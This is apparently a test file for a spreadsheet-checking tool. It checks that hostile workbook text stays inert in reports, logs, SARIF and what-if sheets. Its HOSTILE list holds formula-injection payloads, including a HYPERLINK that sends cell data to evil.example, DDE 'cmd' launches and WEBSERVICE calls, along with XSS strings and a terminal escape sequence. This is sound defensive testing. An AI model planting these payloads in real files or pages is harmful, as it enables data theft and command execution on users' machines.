/**
 * What stands in a workbook is other people's text. Whatever of it reaches a report, a log, a new sheet or a terminal
 * stays text there: no formula, no markup, no command.
 */
import { runChecks } from '../../src/checks';
import type { Finding } from '../../src/checks/finding';
import { reportedFile, reportSheet } from '../../src/checks/report';
import { sarifReport } from '../../src/cli/formats/sarif';
import { textReport } from '../../src/cli/formats/text';
import { xlsxReport } from '../../src/batch/xlsx-report';
import { parseScenario, whatIf } from '../../src/whatif';
import { LOG_HEADINGS, logLine } from '../../src/workbook/change-log';
import { type FileSnapshot, patchWorkbook, readWorkbook, writeWorkbook } from '../../src/workbook/file';
import type { NewSheet } from '../../src/workbook/port';
import type { WorkbookSnapshot } from '../../src/workbook/snapshot';
import { usedCells } from '../../src/workbook/used-cells';
import { attachment5a } from '../support/attachment-5a';
import { snapshotOf } from '../support/snapshot';

/** What spreadsheets would run, open or show as something else. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Animas")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|'/C calc'!A0",
  '-2+3+WEBSERVICE("http://evil.example")',
  "@INDEX(1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '\u001b]8;;http://evil.example\u0007Animas\u001b[0m',
  "'=1+1",
];

/** The published table with an entity's name replaced and its row wrong, so that findings name the entity. */
function workbookWith(name: string): WorkbookSnapshot {
  const rows = attachment5a().map((row) => [...row]);
  const row = rows.findIndex(([entity]) => entity === 'Animas Public Schools');
  rows[row][0] = name;
  return snapshotOf({ 'FY14 Initial': rows });
}

const reports = new Map<string, ReturnType<typeof runChecks>>();

function checked(name: string): ReturnType<typeof runChecks> {
  const report = reports.get(name) ?? runChecks(workbookWith(name));
  reports.set(name, report);
  return report;
}

function findingsOf(name: string): readonly Finding[] {
  const { findings } = checked(name);
  const shown = name.trim().slice(0, 8);
  expect(findings.some(({ message }) => message.includes(shown))).toBe(true);
  return findings;
}

/** The sheet after writing it to a file and reading it back: what a person opens in Excel. */
function asOpened(bytes: Uint8Array): FileSnapshot {
  return readWorkbook(bytes);
}

/** A total of the report's own: nothing but cells, and none of what a workbook says. */
const OWN_TOTAL =
  /^=(?:SUMPRODUCT\(\([A-Z]+\d+:[A-Z]+\d+=""\)\*[A-Z]+\d+:[A-Z]+\d+\)|SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\))$/;

function expectNoFormulas(workbook: FileSnapshot): void {
  const formulas = workbook.sheets.flatMap((sheet) => [...sheet.formulas()].map(({ formula }) => formula));
  expect(formulas.filter((formula) => !OWN_TOTAL.test(formula))).toEqual([]);
}

describe.each(HOSTILE)('an entity named %j', (name) => {
  test('is text in the report sheet', () => {
    const sheet = reportSheet(
      { file: 'a.xlsx', tables: [], unrecognised: [], findings: findingsOf(name), ignored: [] },
      'January 2, 2027',
      '2026.1',
    );
    for (const cell of sheet.cells.flat()) {
      if (typeof cell === 'string' && !OWN_TOTAL.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t]/);
    }
    expectNoFormulas(asOpened(writeWorkbook({ sheets: [sheet] })));
  });

  test('is text in the report workbook, as are the names of files and sheets', () => {
    const { tables, findings } = checked(name);
    const report = reportedFile({
      file: `${name}.xlsx`,
      tables,
      unrecognised: [{ sheet: name, range: { top: 0, left: 0, bottom: 0, right: 0 } }],
      findings,
      ignored: [],
    });
    const workbook = asOpened(xlsxReport([report, { ...report, findings: [], error: name }], '2026.1'));
    expectNoFormulas(workbook);
    const [files] = workbook.sheets;
    expect(files.value(1, 0)).toBe(`${name}.xlsx`);
  });

  test('drives no terminal', () => {
    const report = reportedFile({
      file: `${name}.xlsx`,
      tables: [],
      unrecognised: [],
      findings: findingsOf(name),
      ignored: [],
    });
    expect(textReport(report)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(textReport({ ...report, error: name })).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });

  test('is a string like any other in JSON and SARIF', () => {
    const report = reportedFile({
      file: 'a.xlsx',
      tables: [],
      unrecognised: [],
      findings: findingsOf(name),
      ignored: [],
    });
    const sarif = JSON.parse(sarifReport([report], '2026.1')) as {
      runs: { results: { message: { text: string } }[] }[];
    };
    expect(sarif.runs[0].results.map(({ message }) => message.text).join('\n')).toContain(
      report.findings[0].message.slice(0, 20),
    );
    expect(sarifReport([report], '2026.1')).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  });

  test('is text in the log of changes, with formulas before and after', () => {
    const line = logLine(
      { sheet: 'FY14 Initial', row: 4, column: 1, before: '=1+1', after: name, reason: name },
      'B5',
      new Date(2027, 0, 2),
    );
    const log: NewSheet = { name: 'NM changes', cells: [LOG_HEADINGS, line.map((text) => ({ text }))] };
    const workbook = asOpened(writeWorkbook({ sheets: [log] }));
    expectNoFormulas(workbook);
    expect(workbook.sheets[0].value(1, 3)).toBe('=1+1');
  });

  test('is text in a what-if sheet', () => {
    const workbook = workbookWith(name);
    const [table] = checked(name).tables;
    const sheet = whatIf(workbook, table, [parseScenario('Other share:share=0.95')]);
    const own = (cell: (typeof sheet.cells)[number][number]): boolean => typeof cell === 'string' && cell === name;
    expect(sheet.cells.flat().filter(own)).toEqual(/^=/.test(name) ? [] : expect.anything());
    const opened = asOpened(writeWorkbook({ sheets: [{ name: 'FY14 Initial', cells: [] }, sheet] }));
    for (const { formula } of opened.sheets[1].formulas())
      expect(formula).not.toMatch(/cmd|evil|HYPERLINK|WEBSERVICE/i);
  });

  test('is text in a what-if sheet as the name of a scenario', () => {
    const workbook = workbookWith('Animas Public Schools');
    const [table] = checked('Animas Public Schools').tables;
    const sheet = whatIf(workbook, table, [{ name, values: { share: '0.95' } }]);
    const opened = asOpened(writeWorkbook({ sheets: [{ name: 'FY14 Initial', cells: [] }, sheet] }));
    for (const { formula } of opened.sheets[1].formulas())
      expect(formula).not.toMatch(/cmd|evil|HYPERLINK|WEBSERVICE|^=1/i);
    const texts = sheet.cells
      .flat()
      .map((cell) => (typeof cell === 'object' && cell && 'text' in cell ? cell.text : ''));
    expect(texts).toEqual(expect.arrayContaining([name, `${name}: Allocation`]));
  });

  test('stays text when a change is written into a file', () => {
    const bytes = writeWorkbook({ sheets: [{ name: 'Sheet1', cells: [['a', { text: name }]] }] });
    const before = asOpened(bytes).sheets[0].value(0, 1);
    const change = { sheet: 'Sheet1', row: 0, column: 0, before: 'a', after: 7, reason: 'test' };
    const patched = asOpened(patchWorkbook(bytes, [change]));
    expectNoFormulas(patched);
    expect(patched.sheets[0].value(0, 1)).toEqual(before);
  });
});

test('a message that is longer than a cell holds is shortened in reports, and says so', () => {
  const findings = findingsOf('Animas').map((one) => ({ ...one, message: `Long ${'😀'.repeat(20_000)}` }));
  const checkedFile = { file: 'a.xlsx', tables: [], unrecognised: [], findings, ignored: [] };
  const report = reportedFile(checkedFile);
  const sheet = reportSheet(checkedFile, 'January 2, 2027', '2026.1');
  for (const bytes of [xlsxReport([report], '2026.1'), writeWorkbook({ sheets: [sheet] })]) {
    const opened = asOpened(bytes);
    const texts = opened.sheets.flatMap((one) => [...usedCells(one)].map(({ row, column }) => one.value(row, column)));
    const long = texts.filter((text) => typeof text === 'string' && text.length > 30_000) as string[];
    expect(long).toHaveLength(findings.length);
    for (const text of long) {
      expect(text.length).toBeLessThanOrEqual(32_767);
      expect(text).toMatch(/^Long (?:😀)+ … \(shortened: a cell holds no more\)$/u);
    }
  }
});
